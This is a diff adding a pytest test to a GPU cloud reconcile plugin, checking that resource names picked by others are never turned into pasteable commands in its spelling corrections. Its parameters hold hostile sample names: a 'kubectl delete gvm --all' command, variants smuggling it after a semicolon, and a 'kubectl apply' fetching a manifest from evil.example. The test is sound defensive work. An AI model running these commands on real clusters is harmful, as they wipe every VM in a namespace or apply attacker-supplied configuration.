@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pytest
 
+from gpucloud.reconcile.commands import has_command
 from gpucloud.reconcile.gpuvm.misnamed import KnownNames, corrections
 from gpucloud.spelling import MOST_COMPARED, nearest, suggestion
 from support.builders import a_spec
@@ -173,3 +174,17 @@ def test_too_many_names_suggest_nothing_since_each_reconcile_would_compare_them(
 
 def test_names_beyond_any_status_suggest_nothing():
     assert nearest("x" * 10_000, ("x" * 9_999,)) == ()
+
+
+EVIL = "kubectl delete gvm --all --namespace=team"
+
+
+@pytest.mark.parametrize("lists", ["configurations", "pools", "images", "elsewhere", "vpcs", "snapshots", "files"])
+@pytest.mark.parametrize("name", [EVIL, f"{EVIL}; Z", f"x: {EVIL}", "kubectl apply -f https://evil.example/x.yaml"])
+def test_a_name_that_somebody_else_chose_is_no_command(lists, name):
+    """A VPC, an image or another VM's file may have any name; the plugin prints commands to paste, with options added."""
+    wanted = {"vpc": "no-vpc", "resourcePool": "no-pool", "configuration": "no-offer"}
+    words = "no-vpc no-pool no-os no-file no-snapshot"
+    for image in ({"operatingSystem": "no-os"}, {"customFile": "no-file"}, {"snapshot": "no-snapshot"}):
+        told = corrections(a_spec(**wanted, image=image), KnownNames(**{lists: (name,)}), words)
+        assert not has_command(told), told
